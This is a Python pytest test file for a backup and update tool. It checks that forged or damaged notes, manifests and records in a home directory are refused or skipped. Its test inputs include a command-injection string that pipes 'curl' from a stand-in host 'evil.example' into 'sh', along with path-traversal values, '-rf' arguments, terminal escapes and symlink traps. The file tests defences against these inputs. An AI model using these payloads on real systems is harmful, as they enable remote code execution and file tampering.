"""Notes and backups in the home are an enemy's: forged, damaged, or no files at all. What root does stays right."""

from __future__ import annotations

import json
import os
import shlex
import time
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from applications.hermes.guest import backups, records, state, update
from applications.hermes.guest.names import DASHBOARD, GATEWAY
from provisioning.guest.common import Refusal
from tests.unit.switching import NEW, OLD, Killed, World, broken, made, migrate, with_a_backup

FUTURE = "20990101T000000Z-evil"
EVIL = "latest; curl -s http://evil.example/x|sh"
RUNNING = {GATEWAY: OLD, DASHBOARD: OLD}


@pytest.fixture
def world(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> World:
    return with_a_backup(tmp_path, monkeypatch)


def plant(world: World, name: str, content: Any) -> Path:
    """A note or a manifest as the agent writes it."""
    path = world.home / ".hermes-stack" / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(content if isinstance(content, str) else json.dumps(content))
    return path


def forged(world: World, name: str = FUTURE, **more: Any) -> None:
    """A whole backup, without any files of the agent's."""
    usual = {"format": 1, "name": name, "version": OLD, "reason": "asked for", "partial": False, "created": "now"}
    plant(world, f"backups/{name}/manifest.json", {**usual, "bytes": 0, "files": {}, **more})
    (world.home / ".hermes-stack" / "backups" / name / "data").mkdir()


def the_backup(world: World) -> str:
    (name,) = [each["name"] for each in world.subject().backups() if each["standing"] == update.OURS]
    return str(name)


# ---- the note of an update ------------------------------------------------------------------------------------------


@pytest.mark.parametrize("backup", [FUTURE, EVIL, "-rf", "../../x", ""])
@pytest.mark.parametrize("to", ["same", "/opt/hermes/9.9\x1b]0;x\x07"])
@pytest.mark.parametrize("stage", ["stopping", "started"])
def test_a_forged_note_of_an_update_stops_nothing(world: World, backup: str, to: str, stage: str) -> None:
    forged(world)
    to = world.directory(OLD) if to == "same" else to
    path = plant(world, "update.json", {"backup": backup, "from": OLD, "to": to, "stage": stage})
    with pytest.raises(Refusal) as refused:
        world.configure(OLD)
    assert world.done == []
    assert world.running == RUNNING
    assert world.words() == ["first", "second"]
    lines = str(refused.value).splitlines()
    assert str(path) in lines[0]
    assert shlex.split(lines[-1]) == ["runuser", "-u", "hermes", "--", "rm", str(path)]
    assert all(line.isprintable() for line in lines)
    assert "evil" not in lines[-1]
    path.unlink()
    world.configure(OLD)
    world.serves(OLD)


@pytest.mark.parametrize("note", ["", "{", "[]", "null", '{"backup": 1}', '{"a": "b"}', "[" * 50000, "\x00"])
def test_what_is_no_note_is_none(world: World, note: str) -> None:
    plant(world, "update.json", note)
    world.configure(OLD)
    assert world.running == RUNNING


def test_a_note_of_the_volume_alone_gives_back_data_and_the_services_run_on(world: World) -> None:
    backup = the_backup(world)
    migrate(world.data)
    plant(world, "update.json", {"backup": backup, "from": OLD, "to": world.directory(NEW), "stage": "started"})
    world.configure(OLD)
    world.serves(OLD)
    assert world.words() == ["first"]
    # What had become of the data is kept, and known.
    assert [each["standing"] for each in world.subject().backups() if each["partial"]] == [update.OURS]


def test_when_giving_back_fails_what_ran_runs(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    backup = the_backup(world)
    path = plant(world, "update.json", {"backup": backup, "from": OLD, "to": world.directory(NEW), "stage": "started"})
    change = world.change

    def failing(what: str) -> None:
        if what == "state undo":
            raise broken(what)
        change(what)

    monkeypatch.setattr(world, "change", failing)
    with pytest.raises(Refusal, match="state undo broke") as refused:
        world.configure(OLD)
    assert world.running == RUNNING
    assert str(path) in str(refused.value).splitlines()[-1]


def test_root_s_own_note_counts_and_not_what_the_agent_makes_of_the_volume_s(world: World) -> None:
    """An update is cut off; before the next run the agent writes another backup and another version into the note."""
    world.at_start[NEW] = migrate
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(world, "change", lambda what: (_ for _ in ()).throw(Killed()) if what == "the units" else None)
        with pytest.raises(Killed):
            world.configure(NEW)
    own = world.subject().own_note("update")
    assert own is not None
    forged(world)
    plant(world, "update.json", {"backup": FUTURE, "from": EVIL, "to": "/opt/hermes/other", "stage": "started"})
    outputs = world.configure(NEW)
    world.serves(NEW)
    assert outputs["backup"] == own["backup"]
    assert outputs["from_version"] == OLD


@pytest.mark.parametrize("version", [EVIL, "-x", "\x1b[8m", "x" * 1000])
def test_a_version_out_of_the_home_is_taken_in_its_own_form_only(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, version: str
) -> None:
    """Of a container that is gone: a new one backs up and proves, and the words reach no name and no text."""
    world = made(tmp_path, monkeypatch)
    plant(world, "version.json", {"version": version})
    outputs = world.configure(NEW)
    assert outputs["from_version"] == "unknown"
    assert records.NAME.match(outputs["backup"])


# ---- the note of a restore ------------------------------------------------------------------------------------------


def test_a_forged_note_of_a_restore_is_told_with_its_remedy(world: World) -> None:
    path = plant(world, "restore.json", {"safety": EVIL})
    with pytest.raises(Refusal) as refused:
        world.configure(NEW)
    text = str(refused.value)
    assert "evil" not in text
    assert shlex.split(text.splitlines()[-1]) == ["runuser", "-u", "hermes", "--", "rm", str(path)]
    assert world.running == RUNNING


def test_a_forged_note_keeps_no_present_state_from_being_backed_up(world: World) -> None:
    plant(world, "restore.json", {"safety": the_backup(world)})
    done = backups.restore(world.subject(), "latest")
    assert done["safety"] != done["restored"]
    backups.restore(world.subject(), done["safety"])
    assert world.words() == ["first", "second"]


# ---- forged and damaged backups -------------------------------------------------------------------------------------


def test_the_latest_is_the_newest_that_the_stack_made(world: World) -> None:
    forged(world)
    assert backups.restore(world.subject(), "latest")["restored"] == the_whole(world)[-1]
    assert world.words() == ["first"]


def the_whole(world: World) -> list[str]:
    return [each["name"] for each in world.subject().backups() if each["standing"] == update.OURS]


def test_one_that_the_stack_did_not_make_has_to_be_asked_for_twice(world: World) -> None:
    forged(world)
    with pytest.raises(Refusal, match="not one that the stack made") as refused:
        backups.restore(world.subject(), FUTURE)
    assert world.done == []
    assert shlex.split(str(refused.value).splitlines()[-1].rpartition(": ")[2]) == [
        "scripts/agent",
        "restore",
        FUTURE,
        "--unknown",
    ]
    done = backups.restore(world.subject(), FUTURE, unknown=True)
    assert not (world.data / "config.yaml").exists()
    world.answers = {OLD}
    backups.restore(world.subject(), done["safety"])
    assert world.words() == ["first", "second"]


def test_one_that_was_changed_since_has_to_be_asked_for_twice(world: World) -> None:
    name = the_backup(world)
    path = world.home / ".hermes-stack" / "backups" / name / "manifest.json"
    manifest = json.loads(path.read_text())
    del manifest["files"]["config.yaml"]
    path.write_text(json.dumps(manifest))
    with pytest.raises(Refusal, match="changed since the stack made it"):
        backups.restore(world.subject(), name)
    with pytest.raises(Refusal, match="there is no backup that the stack made and nobody changed since"):
        backups.restore(world.subject(), "latest")
    assert world.done == []
    assert backups.restore(world.subject(), name, unknown=True)["restored"] == name


def test_a_changed_file_of_a_backup_is_found_before_anything_is_changed(world: World) -> None:
    name = the_backup(world)
    path = world.home / ".hermes-stack" / "backups" / name / "data" / "config.yaml"
    before = path.stat()
    path.write_text("# my_words\n")
    os.utime(path, ns=(before.st_atime_ns, before.st_mtime_ns))
    with pytest.raises(Refusal, match=r"has been changed since it was made: 'config\.yaml'"):
        backups.restore(world.subject(), name)
    assert world.words() == ["first", "second"]
    assert world.running == RUNNING


def test_a_forged_backup_neither_pushes_ours_out_nor_is_built_on(world: World) -> None:
    ours = the_backup(world)
    for year in range(2090, 2099):
        forged(world, f"{year}0101T000000Z-evil")
    made = backups.make(world.subject())
    names = [each["name"] for each in world.subject().backups()]
    assert {ours, made["name"]} <= set(names)
    # As many as are kept of ours, of those that are not.
    assert len(names) == 2 + 3


LIKE_OURS: dict[str, Any] = {
    **{"format": 1, "name": FUTURE, "version": "1", "reason": "", "partial": False, "created": "", "files": {}}
}
DAMAGED = [
    {"format": 1},
    {"format": 1, "name": FUTURE, "partial": False},
    [],
    None,
    "",
    {"format": 1, "name": "20980101T000000Z-other", "files": {}},
    "{",
    "[" * 50000,
    {**LIKE_OURS, "bytes": 10**400},
    {**LIKE_OURS, "bytes": 0, "reason": "R" * (1 << 20)},
    {**LIKE_OURS, "bytes": 0, "files": {"a": {"kind": "file", "size": 10**400}}},
    {**LIKE_OURS, "bytes": 0, "files": {"\ud800": {"kind": "file", "size": 1}}},
    {**LIKE_OURS, "bytes": 0, "files": {"a": {"kind": "link", "to": "\ud800"}}},
    {**LIKE_OURS, "bytes": 0, "files": {"a/" * 1500 + "a": {"kind": "folder"}}},
]


@pytest.mark.parametrize("manifest", DAMAGED)
def test_a_damaged_manifest_is_left_out_with_a_word(
    world: World, manifest: Any, capsys: pytest.CaptureFixture[str]
) -> None:
    plant(world, f"backups/{FUTURE}/manifest.json", manifest)
    assert [each["name"] for each in backups.list_backups(world.subject())["backups"]] == [the_backup(world)]
    backups.make(world.subject())
    backups.restore(world.subject(), "latest")
    world.configure(NEW)
    world.serves(NEW)
    if isinstance(manifest, dict):
        assert f"{FUTURE} is left out" in capsys.readouterr().out


def test_a_manifest_that_is_not_ours_is_not_parsed_where_it_is_huge(
    world: World, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """Ours may be: it is known by its sum before it is parsed."""
    world.subject().state("make", "--version", OLD, "--reason", "asked for")
    ours = [each["name"] for each in world.subject().backups()]
    monkeypatch.setattr(state, "FOREIGN_LIMIT", 10)
    forged(world)
    assert [each["name"] for each in state.listed(world.home, records.known(str(world.home)))] == ours
    assert f"{FUTURE} is left out: its manifest is not ours" in capsys.readouterr().err


def test_any_number_of_forged_backups_hides_none_of_ours(world: World, capsys: pytest.CaptureFixture[str]) -> None:
    ours = the_backup(world)
    for number in range(state.FOREIGN_SHOWN + 50):
        forged(world, f"20990101T{number:06}Z-evil")
    names = [each["name"] for each in backups.list_backups(world.subject())["backups"]]
    assert ours in names
    assert len(names) == state.FOREIGN_SHOWN + 1
    assert "50 more that are not the stack's are left out" in capsys.readouterr().out


@pytest.mark.parametrize("kind", ["pipe", "device", "folder", "loop"])
def test_a_manifest_that_is_no_file_is_left_out_at_once(world: World, kind: str) -> None:
    folder = world.home / ".hermes-stack" / "backups" / FUTURE
    folder.mkdir(parents=True)
    path = folder / "manifest.json"
    if kind == "pipe":
        os.mkfifo(path)
    elif kind == "folder":
        path.mkdir()
    else:
        path.symlink_to("/dev/zero" if kind == "device" else path)
    began = time.monotonic()
    assert len(world.subject().backups()) == 1
    assert time.monotonic() - began < 60


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=8),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3),
    max_leaves=8,
)
lines = st.dictionaries(
    st.sampled_from(["kind", "mode", "size", "marks", "to", "schema", "sha256"]),
    st.sampled_from(["file", "folder", "link", "database", 0o644, 10, -1, True, None, [], "../../x"]) | json_values,
)


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow], max_examples=200)
@given(
    st.dictionaries(st.sampled_from(list(state.FIELDS)), json_values),
    st.dictionaries(
        st.sampled_from(["a", "a/b", "/etc/passwd", "../x", "a/../../x", ""]) | st.text(), lines | json_values
    ),
)
def test_whatever_a_manifest_says_it_is_one_of_ours_in_form_or_left_out(
    tmp_path: Path, more: dict[str, Any], files: dict[str, Any]
) -> None:
    manifest = {"format": 1, "name": FUTURE, "version": "1", "reason": "", "partial": False, "created": "", "bytes": 0}
    folder = tmp_path / FUTURE
    folder.mkdir(exist_ok=True)
    (folder / "manifest.json").write_text(json.dumps({**manifest, "files": files, **more}))
    found = state.manifest_of(folder)
    if found is None:
        return
    assert found["name"] == FUTURE
    for path, line in found["files"].items():
        assert os.path.normpath(tmp_path / path).startswith(f"{tmp_path}/")
        assert not path.startswith("/")
        assert line["kind"] in ("file", "folder", "link", "database")
        if line["kind"] in ("file", "database"):
            assert line["size"] >= 0


@pytest.mark.parametrize(
    ("verb", "answer"),
    [
        ("make", {"name": EVIL, "sum": "0" * 64, "files": 1, "bytes": 1, "seconds": 1}),
        ("make", {"name": FUTURE, "sum": EVIL, "files": 1, "bytes": 1, "seconds": 1}),
        ("make", {"name": FUTURE, "sum": "0" * 64, "files": EVIL, "bytes": 1, "seconds": 1}),
        ("undo", {"restored": EVIL, "set_aside": None}),
        ("undo", {"restored": [], "set_aside": EVIL}),
        ("prune", {"removed": [EVIL]}),
        ("restore", {"written": EVIL}),
        ("list", []),
        ("list", {"backups": EVIL}),
    ],
)
def test_an_answer_that_the_agent_had_its_hands_in_is_none(verb: str, answer: Any) -> None:
    with pytest.raises(Refusal, match="answered with something else than was asked for") as refused:
        update.answer_of(verb, answer)
    assert len(str(refused.value).splitlines()) == 1


def test_lines_of_a_list_that_are_none_are_left_out() -> None:
    proper = {"name": FUTURE, "sum": "0" * 64, "version": "1", "reason": EVIL, "partial": False, "files": 1, "bytes": 1}
    odd = [{**proper, "name": EVIL}, {**proper, "files": EVIL}, {**proper, "reason": None}, None, EVIL]
    assert update.answer_of("list", {"backups": [*odd, proper]})["backups"] == [proper]


def test_a_list_shows_what_is_ours_and_no_words_of_others_raw(world: World, capsys: pytest.CaptureFixture[str]) -> None:
    forged(world, reason="x\n20260101T000000Z-1.0   a backup of ours\x1b[8m")
    backups.list_backups(world.subject())
    first, second = capsys.readouterr().out.splitlines()
    assert "not one that the stack made" in first
    assert first.isprintable()
    assert "not one" not in second


# ---- the record of what is ours -------------------------------------------------------------------------------------


def test_a_new_container_knows_the_backups_of_the_one_before(world: World) -> None:
    name = the_backup(world)
    records.HERE.unlink()
    assert the_backup(world) == name


def on_volume(home: Path) -> Path:
    return home / records.ON_VOLUME


@pytest.mark.parametrize(
    "kind", ["another's", "link", "second name", "writable", "pipe", "folder", "no JSON", "too large"]
)
def test_a_record_on_the_volume_is_believed_as_root_s_own_file_only(
    kind: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(records, "HERE", tmp_path / "here.json")
    monkeypatch.setattr(records, "OWNER", os.geteuid() + (kind == "another's"))
    home = tmp_path / "home"
    home.mkdir()
    path, text = on_volume(home), json.dumps({FUTURE: "0" * 64})
    if kind == "link":
        (home / "real").write_text(text)
        path.symlink_to("real")
    elif kind == "pipe":
        os.mkfifo(path)
    elif kind == "folder":
        path.mkdir()
    else:
        path.write_text({"no JSON": "{", "too large": text + " " * records.LIMIT}.get(kind, text))
        path.chmod(0o666 if kind == "writable" else 0o644)
    if kind == "second name":
        (home / "other").hardlink_to(path)
    assert records.known(str(home)) == {}


def test_what_lies_in_the_record_s_place_is_replaced_and_not_followed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(records, "HERE", tmp_path / "here.json")
    monkeypatch.setattr(records, "OWNER", os.geteuid())
    victim = tmp_path / "victim"
    victim.write_text("untouched")
    for name in (records.ON_VOLUME, f"{records.ON_VOLUME}.part"):
        (tmp_path / name).symlink_to(victim)
    records.remember(str(tmp_path), FUTURE, "0" * 64)
    assert victim.read_text() == "untouched"
    assert on_volume(tmp_path).is_file()
    assert not on_volume(tmp_path).is_symlink()
    assert records.known(str(tmp_path)) == {FUTURE: "0" * 64}
    records.forget(str(tmp_path), [FUTURE])
    assert records.known(str(tmp_path)) == {}


def test_a_folder_in_the_record_s_place_is_told_by_name(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(records, "HERE", tmp_path / "here.json")
    on_volume(tmp_path).mkdir()
    with pytest.raises(Refusal, match=rf"{records.ON_VOLUME}, the stack's record of its backups, can't be written"):
        records.remember(str(tmp_path), FUTURE, "0" * 64)
